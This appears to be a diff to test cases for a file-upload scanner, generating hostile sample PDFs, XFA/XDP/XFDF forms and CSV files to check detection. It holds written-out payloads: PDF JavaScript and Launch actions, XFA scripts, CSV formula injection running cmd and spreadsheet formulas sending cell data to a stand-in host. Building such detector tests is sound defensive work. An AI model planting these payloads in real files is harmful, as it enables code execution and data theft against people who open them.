@@ -27,11 +27,11 @@ EXPLAINED = {
     "wide": "server tags in UTF-16 other than `<?php`, which no server reads in that encoding",
     "event": "tags in the text of images and audio that run a script only on an event, such as `<details ontoggle=`",
     "nested": "the contents of an archive's entries, and archives inside archives",
-    "formula": "formulas in CSV, which run in a spreadsheet if the reader allows them",
+    "formula": "formulas in CSV that fetch something (these are only reported)",
     "quoted": "scripts quoted in a text after its first words, and commands that depend on the file name",
     "links": "images and style sheets that an SVG loads from elsewhere (these are only reported)",
     "xslt": "transformations (XSLT) where XML is allowed, since they are XML",
-    "forms": "files attached to a PDF, its XFA forms, and addresses that it links to or sends forms to",
+    "forms": "files attached to a PDF, and addresses that it links to or sends forms to",
     "before the last": "program suffixes before the last suffix, which only servers use",
 }
 
@@ -140,15 +140,27 @@ def documents():
         "JavaScript": script, "JavaScript by numbers": b"<</S/J#61vaScript/JS(app.alert\\(1\\))>>", "Launch": b"<</S/Launch/F(calc.exe)>>",
         "ImportData": b"<</S/ImportData/F(a.fdf)>>", "GoToE": b"<</S/GoToE/T<<>>>>", "URI script": b"<</S/URI/URI(javascript:alert\\(1\\))>>",
         "URI in hexadecimal": b"<</S/URI/URI<6A6176617363726970743A31>>>", "RichMedia": b"<</Type/Annot/Subtype/RichMedia>>",
-        "Rendition": b"<</S/Rendition/JS(app.alert\\(1\\))>>", "comment between": b"<</S%x\n/JavaScript/JS(1)>>", "XFA": b"<</XFA[(template) 9 0 R]>>",
+        "Rendition": b"<</S/Rendition/JS(app.alert\\(1\\))>>", "comment between": b"<</S%x\n/JavaScript/JS(1)>>",
         "attachment": b"<</Type/EmbeddedFile/Length 2>>", "SubmitForm": b"<</S/SubmitForm/F(http://e.example)>>",
     }
     for name, action in actions.items():
-        label = "forms" if name in ("XFA", "attachment", "SubmitForm") else None
+        label = "forms" if name in ("attachment", "SubmitForm") else None
         yield f"{name} in a PDF", "application/pdf", "a.pdf", pdf([action]), label
         for filters, encode in FILTERS.items():
             data = encode(b"9 0 " + action)
             yield f"{name} in an object stream of {filters}", "application/pdf", "a.pdf", pdf([stream(data, b"/Type/ObjStm/N 1/First 4/Filter[%s]" % filters.encode())]), label
+    form = b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><event><script contentType="application/x-javascript">%s</script></event></template>'
+    for name, text in {"text": b"app.alert(1)", "CDATA": b"<![CDATA[app.alert(1)]]>", "text after a comment": b"<!-- x -->app.alert(1)"}.items():
+        for filters, encode in {"": bytes, **FILTERS}.items():
+            part = stream(encode(form % text), b"/Filter[%s]" % filters.encode())
+            for place in (b"<</AcroForm<</XFA[(template) 5 0 R]>>>>", b"<</XFA 5 0 R>>", b"<</#58FA 6 0 R>>"):
+                yield f"XFA with {name} in {filters or 'plain'}", "application/pdf", "a.pdf", pdf([place, part, b"[(preamble) 7 0 R (template) 5 0 R]"]), None
+        xdp = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">' + form % text + b"</xdp:xdp>"
+        yield f"XDP with {name}", "application/vnd.adobe.xdp+xml", "a.xdp", xdp, None
+        yield f"XDP in UTF-16 with {name}", "application/vnd.adobe.xdp+xml", "a.xdp", xdp.decode().encode("utf-16"), None
+    yield "PDF in an XDP", "application/vnd.adobe.xdp+xml", "a.xdp", b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><pdf xmlns="http://ns.adobe.com/xdp/pdf/"><document><chunk>JVBERi0=</chunk></document></pdf></xdp:xdp>', None
+    for action in (b"<Launch><File Name='calc.exe'/></Launch>", b"<URI Name='java&#115;cript:alert(1)'/>"):
+        yield f"XFDF with {action[1:7].decode()}", "application/xfdf", "a.xfdf", b'<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots><link><OnActivation><Action Trigger="U">' + action + b"</Action></OnActivation></link></annots></xfdf>", None
     yield "encrypted PDF", "application/pdf", "a.pdf", pdf(trailer=b"/Encrypt<</Filter/Standard/V 1>>"), None
     yield "object stream with an unknown filter", "application/pdf", "a.pdf", pdf([stream(b"x", b"/Type/ObjStm/N 1/First 4/Filter/LZWDecode")]), None
 
@@ -274,7 +286,13 @@ def texts():
     for name, data in lines.items():
         yield f"{name} as text", "text/plain", "a.txt", data, "quoted" if name == "IQY" else None
         yield f"{name} as CSV", "text/csv", "a.csv", data, "quoted" if name == "IQY" else None
-    yield "formula", "text/csv", "a.csv", b"a,b\n=cmd|' /c calc'!A1,2\n3,4\n", "formula"
+    formulas = ["=cmd|' /c calc'!A1", "+cmd|' /c calc'!A1", "-2+3+cmd|' /c calc'!D2", "@SUM(1+1)*cmd|' /c calc'!A0", "=1+MSEXCEL|'..\\..\\x'!''",
+                '"=cmd|\' /c calc,1\'!A1"', "  =cmd|/c!A1", '=DDE("cmd";"/c calc";"x")', '=RTD("x",,"y")', "=A1&cmd|'x'!A0"]
+    for formula in formulas:
+        for name, kind, separator in (("a.csv", "text/csv", ","), ("a.csv", "text/csv", ";"), ("a.tsv", "text/tab-separated-values", "\t")):
+            yield f"formula {formula}", kind, name, f"a{separator}b\n1{separator}{formula}{separator}2\n3{separator}4\n".encode(), None
+    for formula in ('=HYPERLINK("http://e.example/?"&A1)', '=WEBSERVICE("http://e.example/?"&A1)', '=IMPORTXML(CONCAT("http://e.example/?",A1),"//a")'):
+        yield f"formula {formula}", "text/csv", "a.csv", f"a,b\n{formula},2\n3,4\n".encode(), "formula"
     for data in (b"{}<script>", b'{"a":1}\n<html>', b"[1,2", b'{"a":}', b"\xff\xfe{\0", b'{"a":1}x'):
         yield f"{data!r} as JSON", "application/json", "a.json", data, None
 
